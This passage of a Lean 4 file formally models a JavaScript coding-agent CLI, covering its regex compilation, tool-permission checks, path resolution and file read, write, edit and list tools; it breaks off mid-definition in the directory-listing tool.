def classAtom (s : JsString) : Parsed (ClassItem × JsString) :=
  match s with
  | [] => .syntaxError
  | 92 :: [] => .syntaxError
  | 92 :: e :: r =>
    match escapeAtom true e r.head? with
    | .ok it => .ok (it, r)
    | .syntaxError => .syntaxError
    | .unsupported => .unsupported
  | c :: r => .ok (.range c c, r)

/-- The members of a class after `[` or `[^`, up to and including the closing `]`. -/
def classItems : Nat → JsString → Parsed (List ClassItem × JsString)
  | 0, _ => .unsupported
  | _ + 1, [] => .syntaxError
  | _ + 1, 93 :: r => .ok ([], r)
  | fuel + 1, s =>
    match classAtom s with
    | .ok (a, 45 :: 93 :: r) => .ok ([a, .range 45 45], r)
    | .ok (a, 45 :: r) =>
      (match classAtom r with
      | .ok (b, r') =>
        (match a, b with
        | .range lo _, .range hi _ =>
          if hi < lo then .syntaxError
          else
            match classItems fuel r' with
            | .ok (items, r'') => .ok (.range lo hi :: items, r'')
            | .syntaxError => .syntaxError
            | .unsupported => .unsupported
        | _, _ => .unsupported)
      | .syntaxError => .syntaxError
      | .unsupported => .unsupported)
    | .ok (a, r) =>
      (match classItems fuel r with
      | .ok (items, r') => .ok (a :: items, r')
      | .syntaxError => .syntaxError
      | .unsupported => .unsupported)
    | .syntaxError => .syntaxError
    | .unsupported => .unsupported

/-- The atom for one class member. -/
def ClassItem.toRegex : ClassItem → Regex
  | .range lo hi => if lo = hi then .char lo else .cls false [.range lo hi]
  | it => .cls false [it]

mutual
/-- Production `Disjunction`: alternatives separated by `|`. -/
def parseDisjunction : Nat → JsString → Parsed (Regex × JsString)
  | 0, _ => .unsupported
  | fuel + 1, s =>
    match parseAlternative fuel s with
    | .ok (a, 124 :: r) =>
      (match parseDisjunction fuel r with
      | .ok (b, r') => .ok (.alt a b, r')
      | .syntaxError => .syntaxError
      | .unsupported => .unsupported)
    | res => res
/-- Production `Alternative`: terms up to `|`, `)` or the end of the pattern. -/
def parseAlternative : Nat → JsString → Parsed (Regex × JsString)
  | 0, _ => .unsupported
  | _ + 1, [] => .ok (.empty, [])
  | fuel + 1, c :: r =>
    if c = 124 ∨ c = 41 then .ok (.empty, c :: r)
    else
      match parseTerm fuel c r with
      | .ok (t, r') =>
        (match parseAlternative fuel r' with
        | .ok (a, r'') => .ok (.seq t a, r'')
        | .syntaxError => .syntaxError
        | .unsupported => .unsupported)
      | .syntaxError => .syntaxError
      | .unsupported => .unsupported
/-- Production `Term`: an assertion, or an atom with its optional quantifier; `c` is the first
character of the term and `r` the text after it. In a pattern without the `u` flag
`]`, `}` and a `{` that opens no quantifier are ordinary characters. -/
def parseTerm : Nat → Nat → JsString → Parsed (Regex × JsString)
  | 0, _, _ => .unsupported
  | fuel + 1, c, r =>
    if c = 94 then .ok (.bol, r)
    else if c = 36 then .ok (.eol, r)
    else if c = 42 ∨ c = 43 ∨ c = 63 then .syntaxError
    else if c = 46 then applyQuantifier .any r
    else if c = 123 then
      (if (bracedQuantifier (c :: r)).isSome then .syntaxError
       else applyQuantifier (.char c) r)
    else if c = 92 then
      (match r with
      | [] => .syntaxError
      | e :: r' =>
        if e = 98 then .ok (.wordBoundary false, r')
        else if e = 66 then .ok (.wordBoundary true, r')
        else
          match escapeAtom false e r'.head? with
          | .ok it => applyQuantifier it.toRegex r'
          | .syntaxError => .syntaxError
          | .unsupported => .unsupported)
    else if c = 91 then
      (let neg := r.head? == some 94
       match classItems (r.length + 1) (if neg then r.drop 1 else r) with
       | .ok (items, r') => applyQuantifier (.cls neg items) r'
       | .syntaxError => .syntaxError
       | .unsupported => .unsupported)
    else if c = 40 then
      (let body : Parsed JsString :=
        match r with
        | 63 :: 58 :: r' => .ok r'
        | 63 :: 61 :: _ => .unsupported
        | 63 :: 33 :: _ => .unsupported
        | 63 :: 60 :: _ => .unsupported
        | 63 :: _ => .syntaxError
        | _ => .ok r
       match body with
       | .ok r' =>
         (match parseDisjunction fuel r' with
         | .ok (d, 41 :: r'') => applyQuantifier d r''
         | .ok (_, _) => .syntaxError
         | .syntaxError => .syntaxError
         | .unsupported => .unsupported)
       | .syntaxError => .syntaxError
       | .unsupported => .unsupported)
    else applyQuantifier (.char c) r
end

/-- Model of `new RegExp(source)`: the whole source must be one disjunction (a `)` left over has
no opening parenthesis). -/
def RegExp.compile (source : JsString) : Parsed Regex :=
  match parseDisjunction (3 * source.length + 3) source with
  | .ok (r, []) => .ok r
  | .ok (_, _ :: _) => .syntaxError
  | .syntaxError => .syntaxError
  | .unsupported => .unsupported

/-! ## `src/permissions.js` and `src/tools/index.js` -/

/-- The choices of the prompt "Remember this decision?". -/
inductive Remember where
  | session
  | project
  | none
  deriving DecidableEq

/-- What the user answers when `inquirer.prompt` asks. -/
structure Answer where
  permission : Bool
  remember : Remember
  deriving DecidableEq

/-- Observable steps of a tool execution. -/
inductive Event where
  /-- The call `getConfig('allowedTools')`. -/
  | readAllowList
  /-- The call `inquirer.prompt` of `checkPermission` for this tool signature. -/
  | prompt (toolSignature : JsString)
  /-- The call `tool.handler(args)` of the named registry entry. -/
  | invoke (tool : JsString) (args : Json)

/-- The state the two modules work on: the module variable `sessionPermissions`, the
key `allowedTools` of the project and of the global configuration store, and the log
of the steps taken so far. -/
structure World where
  sessionPermissions : List JsString
  projectAllowed : Option (List JsString)
  globalAllowed : List JsString
  trace : List Event

/-- An exception. -/
inductive Thrown where
  /-- The value of `new Error(message)`. -/
  | error (message : JsString)
  /-- A `TypeError`: conversion of an object to a string, a property read on `null`, a
  call of a value that is not a function, or an argument that is not a string given to
  `path.resolve`. -/
  | typeError
  /-- The `SyntaxError` of `new RegExp(source)`. -/
  | regexSyntaxError (source : JsString)
  /-- The value of `new Error(pre + error.message)` in a `catch (error)` clause that
  caught an error of the engine, whose message text is not modelled. -/
  | wrapped (pre : JsString) (cause : Thrown)
  deriving DecidableEq

/-- How a call ends. -/
inductive Outcome (α : Type) where
  | returned (a : α)
  | thrown (t : Thrown)
  /-- The call leaves the model: it compiles a pattern outside the regular-expression
  model, or reads a value whose use is not modelled. -/
  | unmodelled

/-- Embedding of `getConfig('allowedTools') || []` (`src/config.js`, for the key
`allowedTools`): the project value when defined, else the global one. -/
def getConfig (w : World) : List JsString :=
  match w.projectAllowed with
  | some l => l
  | none => w.globalAllowed

/-- Embedding of `addToConfig('allowedTools', value)` (`src/config.js`, for the key
`allowedTools`): append to the project list unless the value is present. -/
def addToConfig (w : World) (value : JsString) : World :=
  let current := w.projectAllowed.getD []
  if current.contains value then w
  else { w with projectAllowed := some (current ++ [value]) }

/-- The tool signature `${name}(${JSON.stringify(args)})`, given the string of `name`. -/
def toolSignature (name : JsString) (args : Json) : JsString :=
  name ++ 40 :: (JSON.stringify args ++ [41])

/-- Does the `switch` of `checkPermission` read a property of `args` for this tool name
(`args.command`, `args.path`, `args.operation`)? -/
def readsArgs (toolName : Json) : Bool :=
  strictEq toolName (.str (u16 "BashTool")) || strictEq toolName (.str (u16 "FileEditTool")) ||
  strictEq toolName (.str (u16 "FileWriteTool")) || strictEq toolName (.str (u16 "GitTool"))

/-- Is the value `null`, on which a property read throws? -/
def Json.isNull : Json → Bool
  | .null => true
  | _ => false

/-- Embedding of `checkPermission(toolName, args)` when the user would answer `answer`. -/
def checkPermission (w : World) (toolName args : Json) (answer : Answer) :
    Outcome Bool × World :=
  match toolName.toDisplay with
  | none => (.thrown .typeError, w)
  | some name =>
    let toolSignature := toolSignature name args
    if w.sessionPermissions.contains toolSignature then (.returned true, w)
    else if readsArgs toolName && args.isNull then
      (.thrown .typeError, w)
    else
      let w1 := { w with trace := w.trace ++ [Event.prompt toolSignature] }
      if answer.permission then
        match answer.remember with
        | .session =>
          (.returned true, { w1 with sessionPermissions := w1.sessionPermissions ++ [toolSignature] })
        | .project => (.returned true, addToConfig w1 toolSignature)
        | .none => (.returned true, w1)
      else (.returned false, w1)

/-- Embedding of `clearSessionPermissions()`. -/
def clearSessionPermissions (w : World) : World := { w with sessionPermissions := [] }

/-- What `toolRegistry[name]` evaluates to. -/
inductive RegistryValue where
  /-- One of the eight own entries, with its `requiresPermission`. -/
  | tool (requiresPermission : Bool)
  /-- A member of `Object.prototype`, which the object literal inherits: a truthy value
  without `requiresPermission` and without `handler`. -/
  | inherited
  | undefined

/-- The property names of `Object.prototype`. -/
def objectPrototypeKeys : List JsString :=
  [u16 "constructor", u16 "__defineGetter__", u16 "__defineSetter__", u16 "hasOwnProperty",
   u16 "__lookupGetter__", u16 "__lookupSetter__", u16 "isPrototypeOf",
   u16 "propertyIsEnumerable", u16 "toString", u16 "valueOf", u16 "__proto__",
   u16 "toLocaleString"]

/-- The own entries of `toolRegistry` with their `requiresPermission`. -/
def toolRegistry : List (JsString × Bool) :=
  [(u16 "FileReadTool", false), (u16 "FileEditTool", true), (u16 "FileWriteTool", true),
   (u16 "LSTool", false), (u16 "GrepTool", false), (u16 "GlobTool", false),
   (u16 "BashTool", true), (u16 "GitTool", true)]

/-- The property read `toolRegistry[name]`. -/
def registryLookup (name : JsString) : RegistryValue :=
  match toolRegistry.lookup name with
  | some requiresPermission => .tool requiresPermission
  | none => if objectPrototypeKeys.contains name then .inherited else .undefined

/-- The call `allowed.replace(/\*/g, '.*')`. -/
def wildcardToRegexSource (allowed : JsString) : JsString :=
  allowed.flatMap fun c => if c = 42 then [46, 42] else [c]

/-- The callback of `allowedTools.some(...)` over the list, left to right: `true` at
the first pattern that allows the signature; a pattern that does not compile throws
when it is reached. -/
def isAlreadyAllowed (toolSignature : JsString) : List JsString → Outcome Bool
  | [] => .returned false
  | allowed :: rest =>
    if includes allowed [42] then
      match RegExp.compile (94 :: (wildcardToRegexSource allowed ++ [36])) with
      | .ok r => if r.test toolSignature then .returned true else isAlreadyAllowed toolSignature rest
      | .syntaxError => .thrown (.regexSyntaxError (94 :: (wildcardToRegexSource allowed ++ [36])))
      | .unsupported => .unmodelled
    else if allowed = toolSignature then .returned true
    else isAlreadyAllowed toolSignature rest

/-- The message of the engine's `TypeError` for calling the missing `tool.handler`. -/
def notAFunctionMessage : JsString := u16 "tool.handler is not a function"

/-- The `try` block at the end of `executeToolCommand`: call the handler and wrap what
it throws. `handlers name args` is what the registered handler of `name` does with
`args`: the value it resolves to, or the message of the error it throws. -/
def runHandler (handlers : JsString → Json → Except JsString Json) (w : World)
    (name : JsString) (entry : RegistryValue) (args : Json) : Outcome Json × World :=
  match entry with
  | .tool _ =>
    let w1 := { w with trace := w.trace ++ [Event.invoke name args] }
    match handlers name args with
    | .ok result => (.returned result, w1)
    | .error message =>
      (.thrown (.error (u16 "Error executing " ++ name ++ u16 ": " ++ message)), w1)
  | _ =>
    (.thrown (.error (u16 "Error executing " ++ name ++ u16 ": " ++ notAFunctionMessage)), w)

/-- Embedding of `executeToolCommand(toolCall)` when the user would answer `answer` to a prompt. -/
def executeToolCommand (handlers : JsString → Json → Except JsString Json) (w : World)
    (toolCall : ToolCall) (answer : Answer) : Outcome Json × World :=
  match toolCall.name.toDisplay with
  | none => (.thrown .typeError, w)
  | some name =>
    match registryLookup name with
    | .undefined => (.thrown (.error (u16 "Unknown tool: " ++ name)), w)
    | .tool true =>
      let w1 := { w with trace := w.trace ++ [Event.readAllowList] }
      (match isAlreadyAllowed (toolSignature name toolCall.arguments) (getConfig w1) with
      | .returned true => runHandler handlers w1 name (.tool true) toolCall.arguments
      | .returned false =>
        (match checkPermission w1 toolCall.name toolCall.arguments answer with
        | (.returned true, w2) => runHandler handlers w2 name (.tool true) toolCall.arguments
        | (.returned false, w2) =>
          (.thrown (.error (u16 "Permission denied for " ++ name)), w2)
        | (.thrown t, w2) => (.thrown t, w2)
        | (.unmodelled, w2) => (.unmodelled, w2))
      | .thrown t => (.thrown t, w1)
      | .unmodelled => (.unmodelled, w1))
    | entry => runHandler handlers w name entry toolCall.arguments

/-- The reading of a stored pattern in the words of the specification (not taken from
the source): a glob, in which `*` matches any substring, every other character matches
itself, and the whole text must be matched. -/
def specGlobMatches : JsString → JsString → Bool
  | [], s => s.isEmpty
  | p :: ps, s =>
    if p = 42 then (List.range (s.length + 1)).any fun k => specGlobMatches ps (s.drop k)
    else
      match s with
      | c :: cs => c == p && specGlobMatches ps cs
      | [] => false

/-! ## Lines and the `path` module

Paths are those of a POSIX system: the separator is `/` and `process.cwd()` is an
absolute path. -/

/-- Model of `s.split(sep)` for a separator of one code unit. -/
def splitOn (sep : Nat) : JsString → List JsString
  | [] => [[]]
  | c :: cs =>
    if c = sep then [] :: splitOn sep cs
    else
      match splitOn sep cs with
      | [] => [[c]]
      | seg :: rest => (c :: seg) :: rest

/-- Model of `parts.join(sep)` for a separator of one code unit. -/
def joinWith (sep : Nat) : List JsString → JsString
  | [] => []
  | [x] => x
  | x :: y :: rest => x ++ sep :: joinWith sep (y :: rest)

/-- Model of `normalizeString` of Node's `path`, on the segments between separators:
empty segments and `.` are dropped, `..` removes the segment before it; where there is
none to remove, `..` is kept when `allowAboveRoot` and dropped otherwise. The first
argument holds the segments kept so far, last one first. -/
def normalizeSegments (allowAboveRoot : Bool) : List JsString → List JsString → List JsString
  | kept, [] => kept.reverse
  | kept, seg :: rest =>
    if seg = [] ∨ seg = [46] then normalizeSegments allowAboveRoot kept rest
    else if seg = [46, 46] then
      match kept with
      | last :: before =>
        if last = [46, 46] then
          normalizeSegments allowAboveRoot (if allowAboveRoot then seg :: kept else kept) rest
        else normalizeSegments allowAboveRoot before rest
      | [] => normalizeSegments allowAboveRoot (if allowAboveRoot then [seg] else []) rest
    else normalizeSegments allowAboveRoot (seg :: kept) rest

/-- Model of `path.resolve(cwd, p)` for an absolute `cwd`: an absolute `p` replaces
`cwd`, a relative one is appended to it, and the result is normalized. -/
def path.resolve (cwd p : JsString) : JsString :=
  47 :: joinWith 47 (normalizeSegments false []
    (splitOn 47 (if p.head? = some 47 then p else cwd ++ 47 :: p)))

/-- Model of `path.normalize(p)`. -/
def path.normalize (p : JsString) : JsString :=
  if p = [] then [46]
  else
    let isAbsolute := p.head? = some 47
    let trailingSeparator := p.getLast? = some 47
    let res := joinWith 47 (normalizeSegments (!decide isAbsolute) [] (splitOn 47 p))
    if res = [] then
      if isAbsolute then [47] else if trailingSeparator then [46, 47] else [46]
    else
      let res := if trailingSeparator then res ++ [47] else res
      if isAbsolute then 47 :: res else res

/-- Model of `path.join(a, b)`: the non-empty arguments joined by `/`, normalized. -/
def path.join (a b : JsString) : JsString :=
  path.normalize (if a = [] then b else if b = [] then a else a ++ 47 :: b)

/-- The two lists without their longest common prefix. -/
def dropCommon : List JsString → List JsString → List JsString × List JsString
  | a :: as, b :: bs => if a = b then dropCommon as bs else (a :: as, b :: bs)
  | as, bs => (as, bs)

/-- Model of `path.relative(src, dst)` for two absolute paths: one `..` for every segment
of `src` after the common leading segments, then the remaining segments of `dst`. -/
def path.relative (src dst : JsString) : JsString :=
  let rest := dropCommon (normalizeSegments false [] (splitOn 47 src))
    (normalizeSegments false [] (splitOn 47 dst))
  joinWith 47 (rest.1.map (fun _ => [46, 46]) ++ rest.2)

/-- Model of `path.dirname(p)`: the text before the last separator that follows the
first code unit and is followed by a segment. -/
def path.dirname (p : JsString) : JsString :=
  match p with
  | [] => [46]
  | c :: rest =>
    match (rest.reverse.dropWhile (· = 47)).dropWhile (· ≠ 47) with
    | [] => if c = 47 then [47] else [46]
    | _ :: before => if c = 47 ∧ before = [] then [47, 47] else c :: before.reverse

/-! ## The file system

The tools reach the disk through `fs/promises`. The file system is a parameter: `NodeFs σ`
says what each call answers in a state `σ` and which state a writing call leaves. -/

/-- An error of `fs`: its `code` (such as `ENOENT`) and its `message`. -/
structure FsError where
  code : JsString
  message : JsString
  deriving DecidableEq

/-- A call of `fs/promises` made by a tool. -/
inductive FsCall where
  | access (file : JsString)
  | readFile (file : JsString)
  | writeFile (file content : JsString)
  | appendFile (file content : JsString)
  /-- The call `fs.mkdir(dir, { recursive: true })`. -/
  | mkdir (dir : JsString)
  | stat (file : JsString)
  /-- The call `fs.readdir(dir, { withFileTypes: true })`. -/
  | readdir (dir : JsString)
  deriving DecidableEq

/-- The answers of the file system. `stat` gives `stats.isDirectory()`, `readdir` the
name and `isDirectory()` of each entry. -/
structure NodeFs (σ : Type) where
  access : σ → JsString → Except FsError Unit
  readFile : σ → JsString → Except FsError JsString
  writeFile : σ → JsString → JsString → Except FsError σ
  appendFile : σ → JsString → JsString → Except FsError σ
  mkdir : σ → JsString → Except FsError σ
  stat : σ → JsString → Except FsError Bool
  readdir : σ → JsString → Except FsError (List (JsString × Bool))

/-- The disk as a tool sees it: the state of the file system and the calls made so far. -/
structure Disk (σ : Type) where
  state : σ
  calls : List FsCall

/-- Record a call. -/
def Disk.log {σ : Type} (d : Disk σ) (c : FsCall) : Disk σ := { d with calls := d.calls ++ [c] }

/-- What the tools read from their surroundings: `process.cwd()` and
`getConfig('ignorePatterns') || []`. -/
structure ToolEnv where
  cwd : JsString
  ignorePatterns : List JsString

/-- The value of `new Error(pre + error.message)` for a caught exception. -/
def wrapError (pre : JsString) : Thrown → Thrown
  | .error message => .error (pre ++ message)
  | t => .wrapped pre t

/-- The conversion `ToString` of a possibly `undefined` value; `none` stands for the
`TypeError` of `Json.toDisplay`. -/
def displayOpt : Option Json → Option JsString
  | none => some (u16 "undefined")
  | some v => v.toDisplay

/-- The loop over `ignorePatterns` in `fileReadTool` and `fileWriteTool`: the first pattern
for which `filePath.includes(pattern.replace(/\*/g, ''))`. -/
def matchingIgnorePattern (filePath : JsString) : List JsString → Option JsString
  | [] => none
  | pattern :: rest =>
    if includes filePath (pattern.filter (· ≠ 42)) then some pattern
    else matchingIgnorePattern filePath rest

/-! ## `src/tools/fileReadTool.js` and `src/tools/fileWriteTool.js` -/

/-- Embedding of `fileReadTool(args)`. -/
def fileReadTool {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (d : Disk σ) (args : Json) :
    Outcome Json × Disk σ :=
  if args.isNull then (.thrown .typeError, d)
  else if !truthyOpt (args.get (u16 "path")) then (.thrown (.error (u16 "Path is required")), d)
  else
    match args.get (u16 "path") with
    | some (.str p) =>
      let filePath := path.resolve env.cwd p
      if (stripPrefix env.cwd filePath).isNone then
        (.thrown (.error (u16 "Cannot read files outside the project directory")), d)
      else
        match matchingIgnorePattern filePath env.ignorePatterns with
        | some pattern => (.thrown (.error (u16 "Path matches ignore pattern: " ++ pattern)), d)
        | none =>
          match fs.access d.state filePath with
          | .error e =>
            (.thrown (.error (if e.code = u16 "ENOENT" then u16 "File not found: " ++ p
              else u16 "Failed to read file: " ++ e.message)), d.log (.access filePath))
          | .ok _ =>
            match fs.readFile d.state filePath with
            | .error e =>
              (.thrown (.error (if e.code = u16 "ENOENT" then u16 "File not found: " ++ p
                else u16 "Failed to read file: " ++ e.message)),
                (d.log (.access filePath)).log (.readFile filePath))
            | .ok content =>
              (.returned (.str content), (d.log (.access filePath)).log (.readFile filePath))
    | _ => (.thrown .typeError, d)

/-- Embedding of `fileWriteTool(args)`. A `content` that is not a string is outside the
model (`fs.writeFile` accepts some non-string values and rejects others). -/
def fileWriteTool {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (d : Disk σ) (args : Json) :
    Outcome Json × Disk σ :=
  if args.isNull then (.thrown .typeError, d)
  else if !truthyOpt (args.get (u16 "path")) then (.thrown (.error (u16 "Path is required")), d)
  else if (args.get (u16 "content")).isNone then
    (.thrown (.error (u16 "Content is required")), d)
  else
    match args.get (u16 "path") with
    | some (.str p) =>
      let filePath := path.resolve env.cwd p
      if (stripPrefix env.cwd filePath).isNone then
        (.thrown (.error (u16 "Cannot write files outside the project directory")), d)
      else
        match matchingIgnorePattern filePath env.ignorePatterns with
        | some pattern => (.thrown (.error (u16 "Path matches ignore pattern: " ++ pattern)), d)
        | none =>
          let d1 := d.log (.mkdir (path.dirname filePath))
          match fs.mkdir d.state (path.dirname filePath) with
          | .error e => (.thrown (.error (u16 "Failed to write file: " ++ e.message)), d1)
          | .ok st1 =>
            match args.get (u16 "content") with
            | some (.str content) =>
              if truthyOpt (args.get (u16 "append")) then
                match fs.appendFile st1 filePath content with
                | .error e =>
                  (.thrown (.error (u16 "Failed to write file: " ++ e.message)),
                    { state := st1, calls := d1.calls ++ [.appendFile filePath content] })
                | .ok st2 =>
                  (.returned (.str (u16 "Content appended to " ++ p)),
                    { state := st2, calls := d1.calls ++ [.appendFile filePath content] })
              else
                match fs.writeFile st1 filePath content with
                | .error e =>
                  (.thrown (.error (u16 "Failed to write file: " ++ e.message)),
                    { state := st1, calls := d1.calls ++ [.writeFile filePath content] })
                | .ok st2 =>
                  (.returned (.str (u16 "File " ++ p ++ u16 " created successfully")),
                    { state := st2, calls := d1.calls ++ [.writeFile filePath content] })
            | _ => (.unmodelled, { state := st1, calls := d1.calls })
    | _ => (.thrown .typeError, d)

/-! ## `src/tools/fileEditTool.js` -/

/-- The integer a number denotes, when it denotes one. -/
def Num.toInt? : Num → Option Int
  | .zero _ => some 0
  | .inf _ => none
  | .fin neg m e =>
    if 0 ≤ e then some ((if neg then -1 else 1) * ((m * 2 ^ e.toNat : Nat) : Int))
    else if m % 2 ^ (-e).toNat = 0 then
      some ((if neg then -1 else 1) * ((m / 2 ^ (-e).toNat : Nat) : Int))
    else none

/-- A line number of the model: a number that denotes an integer. For these the
comparisons of `fileEditTool` are comparisons of integers, `slice` takes the integer
itself, and `endLine + 1` is exact wherever it is computed (`endLine` is then below the
number of lines). Other values of `startLine` and `endLine` are outside the model. -/
def lineNumber : Json → Option Int
  | .num x => x.toInt?
  | _ => none

/-- Model of `GetSubstitution` for a pattern without capture groups: in the replacement
text `$$` stands for `$`, `$&` for the matched text, and the two-unit patterns `$` +
backtick and `$` + apostrophe for the text before and after the match; every other code
unit stands for itself. -/
def getSubstitution (matched before after : JsString) : JsString → JsString
  | [] => []
  | [c] => [c]
  | c :: n :: rest =>
    if c = 36 ∧ n = 36 then 36 :: getSubstitution matched before after rest
    else if c = 36 ∧ n = 38 then matched ++ getSubstitution matched before after rest
    else if c = 36 ∧ n = 96 then before ++ getSubstitution matched before after rest
    else if c = 36 ∧ n = 39 then after ++ getSubstitution matched before after rest
    else c :: getSubstitution matched before after (n :: rest)

/-- Model of `content.replace(search, replacement)` for two strings: the first occurrence
of `search` is replaced by the substitution of `replacement`. -/
def replaceFirst (content search replacement : JsString) : JsString :=
  match findSub search content with
  | none => content
  | some (before, after) =>
    before ++ getSubstitution search before after replacement ++ after

/-- The body of the `try` block of `fileEditTool` between `fs.readFile` and
`fs.writeFile`: the new content, or what is thrown. -/
def editedContent (content : JsString) (args : Json) : Outcome JsString :=
  if (args.get (u16 "startLine")).isSome && (args.get (u16 "endLine")).isSome then
    match (args.get (u16 "startLine")).bind lineNumber,
      (args.get (u16 "endLine")).bind lineNumber with
    | some startLine, some endLine =>
      let lines := splitOn 10 content
      if startLine < 0 ∨ startLine ≥ lines.length ∨ endLine < startLine ∨
          endLine ≥ lines.length then
        .thrown (.error (u16 "Invalid line range"))
      else if truthyOpt (args.get (u16 "newContent")) then
        match args.get (u16 "newContent") with
        | some (.str newContent) =>
          .returned (joinWith 10 (lines.take startLine.toNat ++ splitOn 10 newContent ++
            lines.drop (endLine + 1).toNat))
        | _ => .thrown .typeError
      else
        .returned (joinWith 10 (lines.take startLine.toNat ++ lines.drop (endLine + 1).toNat))
    | _, _ => .unmodelled
  else
    match displayOpt (args.get (u16 "oldContent")) with
    | none => .thrown .typeError
    | some oldContent =>
      if !includes content oldContent then .thrown (.error (u16 "Old content not found in file"))
      else
        match displayOpt (args.get (u16 "newContent")) with
        | none => .thrown .typeError
        | some newContent => .returned (replaceFirst content oldContent newContent)

/-- The `catch` clause of `fileEditTool` for an error of `fs`. -/
def editFsFailure (p : JsString) (e : FsError) : Thrown :=
  .error (if e.code = u16 "ENOENT" then u16 "File not found: " ++ p
    else u16 "Failed to edit file: " ++ e.message)

/-- Embedding of `fileEditTool(args)`. -/
def fileEditTool {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (d : Disk σ) (args : Json) :
    Outcome Json × Disk σ :=
  if args.isNull then (.thrown .typeError, d)
  else if !truthyOpt (args.get (u16 "path")) then (.thrown (.error (u16 "Path is required")), d)
  else if (!truthyOpt (args.get (u16 "oldContent")) && (args.get (u16 "startLine")).isNone) ||
      (!truthyOpt (args.get (u16 "newContent")) && (args.get (u16 "startLine")).isNone) then
    (.thrown (.error
      (u16 "Either oldContent/newContent pair or startLine/endLine pair is required")), d)
  else
    match args.get (u16 "path") with
    | some (.str p) =>
      let filePath := path.resolve env.cwd p
      if (stripPrefix env.cwd filePath).isNone then
        (.thrown (.error (u16 "Cannot edit files outside the project directory")), d)
      else
        let d1 := d.log (.access filePath)
        match fs.access d.state filePath with
        | .error e => (.thrown (editFsFailure p e), d1)
        | .ok _ =>
          let d2 := d1.log (.readFile filePath)
          match fs.readFile d.state filePath with
          | .error e => (.thrown (editFsFailure p e), d2)
          | .ok content =>
            match editedContent content args with
            | .thrown t => (.thrown (wrapError (u16 "Failed to edit file: ") t), d2)
            | .unmodelled => (.unmodelled, d2)
            | .returned edited =>
              match fs.writeFile d.state filePath edited with
              | .error e => (.thrown (editFsFailure p e), d2.log (.writeFile filePath edited))
              | .ok st =>
                (.returned (.str (u16 "File " ++ p ++ u16 " updated successfully")),
                  { state := st, calls := d2.calls ++ [.writeFile filePath edited] })
    | _ => (.thrown .typeError, d)

/-! ## `src/tools/lsTool.js` -/

/-- An element of the array `lsTool` returns; `type` is `directory` or `file` by
`isDirectory`. -/
structure DirEntry where
  name : JsString
  path : JsString
  isDirectory : Bool
  deriving DecidableEq

/-- The object literal pushed by `listDirectory`. -/
def DirEntry.toJson (entry : DirEntry) : Json :=
  .obj [(u16 "name", .str entry.name), (u16 "path", .str entry.path),
    (u16 "type", .str (if entry.isDirectory then u16 "directory" else u16 "file")),
    (u16 "isDirectory", .bool entry.isDirectory)]

/-- Embedding of `shouldIgnore(filePath, ignorePatterns)`: the callback of `some` over the
patterns, left to right; a pattern with `*` is compiled, and throws when it does not
compile. -/
def shouldIgnore (filePath : JsString) : List JsString → Outcome Bool
  | [] => .returned false
  | pattern :: rest =>
    if includes pattern [42] then
      match RegExp.compile (94 :: (wildcardToRegexSource pattern ++ [36])) with
      | .ok r => if r.test filePath then .returned true else shouldIgnore filePath rest
      | .syntaxError => .thrown (.regexSyntaxError (94 :: (wildcardToRegexSource pattern ++ [36])))
      | .unsupported => .unmodelled
    else if includes filePath pattern then .returned true
    else shouldIgnore filePath rest

/-- How the listing of a directory ends inside the `try` block of `lsTool`. -/
inductive Listing where
  | entries (result : List DirEntry)
  /-- A call of `fs` was rejected. -/
  | fsError (e : FsError)
  | thrown (t : Thrown)
  /-- A pattern is outside the regular-expression model, or the tree is deeper than
  the bound given to the model. -/
  | unmodelled

/-- The loop of `listDirectory` over the entries `fs.readdir` gave. -/
def listEntries (env : ToolEnv) (dirPath : JsString) (showHidden : Bool) :
    List (JsString × Bool) → Listing
  | [] => .entries []
  | (name, isDirectory) :: rest =>
    if !showHidden && name.head? = some 46 then listEntries env dirPath showHidden rest
    else
      match shouldIgnore (path.relative env.cwd (path.join dirPath name)) env.ignorePatterns with
      | .returned true => listEntries env dirPath showHidden rest
      | .returned false =>
        match listEntries env dirPath showHidden rest with
        | .entries result =>
          .entries
            (⟨name, path.relative env.cwd (path.join dirPath name), isDirectory⟩ :: result)
        | other => other
      | .thrown t => .thrown t
      | .unmodelled => .unmodelled

/-- Embedding of `listDirectory(dirPath, showHidden, ignorePatterns)`, with the calls of
`fs` it makes. -/
def listDirectory {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (st : σ) (dirPath : JsString)
    (showHidden : Bool) : Listing × List FsCall :=
  match fs.readdir st dirPath with
  | .error e => (.fsError e, [.readdir dirPath])
  | .ok entries => (listEntries env dirPath showHidden entries, [.readdir dirPath])

/-- The loop of `listRecursive` over the entries of `root`: the listing `recurse` gives
for each directory, every `path` in it prefixed by `path.join(entry.name, child.path)`. -/
def listChildren (recurse : JsString → Listing × List FsCall) (dirPath : JsString) :
    List DirEntry → Listing × List FsCall
  | [] => (.entries [], [])
  | entry :: rest =>
    if entry.isDirectory then
      match recurse (path.join dirPath entry.name) with
      | (.entries children, calls) =>
        match listChildren recurse dirPath rest with
        | (.entries more, calls2) =>
          (.entries (children.map (fun child =>
            { child with path := path.join entry.name child.path }) ++ more), calls ++ calls2)
        | (other, calls2) => (other, calls ++ calls2)
      | other => other
    else listChildren recurse dirPath rest

/-- Embedding of `listRecursive(dirPath, showHidden, ignorePatterns)` down to `depth`
levels of directories. -/
def listRecursive {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (st : σ) (showHidden : Bool) :
    Nat → JsString → Listing × List FsCall
  | 0, _ => (.unmodelled, [])
  | depth + 1, dirPath =>
    match listDirectory fs env st dirPath showHidden with
    | (.entries root, calls) =>
      match listChildren (listRecursive fs env st showHidden depth) dirPath root with
      | (.entries children, calls2) => (.entries (root ++ children), calls ++ calls2)
      | (other, calls2) => (other, calls ++ calls2)
    | other => other

/-- Embedding of `lsTool(args)`; `depth` bounds the levels of directories a recursive
listing descends. -/
def lsTool {σ : Type} (depth : Nat) (fs : NodeFs σ) (env : ToolEnv) (d : Disk σ) (args : Json) :
    Outcome Json × Disk σ :=
  if args.isNull then (.thrown .typeError, d)
  else
    match (if truthyOpt (args.get (u16 "path")) then
        (match args.get (u16 "path") with
          | some (.str p) => some (path.resolve env.cwd p)
          | _ => none)
      else some env.cwd), displayOpt (args.get (u16 "path")) with
    | some dirPath, some shown =>
      if (stripPrefix env.cwd dirPath).isNone then
        (.thrown (.error (u16 "Cannot list directories outside the project directory")), d)
      else
        let d1 := d.log (.stat dirPath)
        match fs.stat d.state dirPath with
        | .error e =>
